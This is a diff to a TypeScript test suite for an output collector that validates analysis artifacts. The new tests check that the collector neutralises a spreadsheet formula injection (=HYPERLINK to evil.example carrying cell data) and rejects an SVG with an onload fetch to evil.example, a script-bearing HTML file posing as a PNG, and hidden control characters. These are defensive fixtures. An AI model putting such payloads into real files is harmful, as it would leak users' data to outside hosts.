@@ -2,11 +2,12 @@ import { execFileSync } from 'node:child_process';
 import { link, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { OUTPUT_MAX_DIRECTORIES, collectOutput, describeBytes, type OutputLimits } from './collect-output';
+import { OUTPUT_MAX_DIRECTORIES, OUTPUT_MESSAGE_MAX_CHARS, collectOutput, describeBytes, type OutputLimits } from './collect-output';
 
 const MiB = 1024 * 1024;
 const LIMITS: OutputLimits = { runOutputMaxFiles: 20, runOutputMaxBytes: 1 * MiB, resultMaxBytes: 64 * 1024 };
 const RESULT = { schemaVersion: 1, summary: 'You posted 3 times', blocks: [{ type: 'metric', label: 'Posts', value: 3 }] };
+const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg>';
 
 let dir: string;
 
@@ -27,7 +28,7 @@ describe('collectOutput accepts', () => {
   it('a valid result and artifacts, with the exact bytes', async () => {
     await putResult();
     await put('artifacts/by-hour.csv', 'hour,posts\n0,4\n');
-    await put('artifacts/charts/week.SVG', '<svg/>');
+    await put('artifacts/charts/week.SVG', SVG);
     const collected = await collectOutput(dir, LIMITS);
     expect(collected).toEqual({
       ok: true,
@@ -35,9 +36,16 @@ describe('collectOutput accepts', () => {
       resultBytes: Buffer.from(JSON.stringify(RESULT)),
       artifacts: [
         { name: 'by-hour.csv', bytes: Buffer.from('hour,posts\n0,4\n') },
-        { name: 'charts/week.SVG', bytes: Buffer.from('<svg/>') },
+        { name: 'charts/week.SVG', bytes: Buffer.from(SVG) },
       ],
     });
+  });
+
+  it('a CSV whose formula cells it neutralises', async () => {
+    await putResult();
+    await put('artifacts/posts.csv', 'text,likes\n=HYPERLINK("https://evil.example/?"&A1),3\n@friend hi,-2\n');
+    const collected = await collectOutput(dir, LIMITS);
+    expect(collected.ok && collected.artifacts).toEqual([{ name: 'posts.csv', bytes: Buffer.from('text,likes\n\'=HYPERLINK("https://evil.example/?"&A1),3\n\'@friend hi,-2\n') }]);
   });
 
   it('exactly the file cap and exactly the byte cap', async () => {
@@ -188,7 +196,7 @@ describe('collectOutput refuses', () => {
     const message = !collected.ok ? collected.message : '';
     expect(message).toMatch(/^result\.json: /);
     expect(message).toContain('blocks[0].text is rejected: markdown must not contain raw HTML (found "<script"');
-    expect(message).toContain('blocks[1].spec.data.url is not allowed: charts must use inline data');
+    expect(message).toContain('blocks[1].spec.data.url is not allowed: a chart uses inline data');
   });
 
   it('artifacts of other types, listing each', async () => {
@@ -203,6 +211,33 @@ describe('collectOutput refuses', () => {
         'output/artifacts/page.html is not a collected artifact type (png, svg, csv, json, txt); ' +
         'output/artifacts/run.sh is not a collected artifact type (png, svg, csv, json, txt)',
     });
+  });
+
+  it('artifacts whose content is active or not of their type, listing each with the reason', async () => {
+    await putResult();
+    await put('artifacts/chart.svg', '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example\')"/>');
+    await put('artifacts/fake.png', '<html><script>alert(1)</script></html>');
+    await put('artifacts/broken.csv', 'a,"never closed\n');
+    await put('artifacts/ok.csv', 'a,b\n');
+    expect(await collectOutput(dir, LIMITS)).toEqual({
+      ok: false,
+      reason: 'output_invalid',
+      message:
+        'output/artifacts/broken.csv has a quoted cell that is never closed (opened on line 1); ' +
+        'output/artifacts/chart.svg has an event handler attribute onload on <svg>: scripts are code (line 1); ' +
+        'output/artifacts/fake.png is not a PNG image: it does not start with the PNG signature',
+    });
+  });
+
+  it('shows hidden characters the analysis wrote as escapes (JSON escapes the controls, the rest here), and caps the message', async () => {
+    await putResult({ ...RESULT, blocks: [{ type: 'chart', title: 't', spec: { mark: 'bar', ['\u202e\u001b[31mkey']: 1 } }] });
+    const collected = await collectOutput(dir, LIMITS);
+    expect(!collected.ok && collected.message).toMatch(/^result\.json: blocks\[0\]\.spec\["\\u202E\\u001b\[31mkey"\] is not allowed in a chart; allowed: /);
+
+    await putResult({ ...RESULT, blocks: [{ type: 'chart', title: 't', spec: { mark: 'bar', ['k'.repeat(10_000)]: 1 } }] });
+    const long = await collectOutput(dir, LIMITS);
+    expect(!long.ok && long.message.length).toBe(OUTPUT_MESSAGE_MAX_CHARS);
+    expect(!long.ok && long.message.endsWith('kk…')).toBe(true);
   });
 
   it('hidden or oddly named artifacts, and files outside artifacts/', async () => {
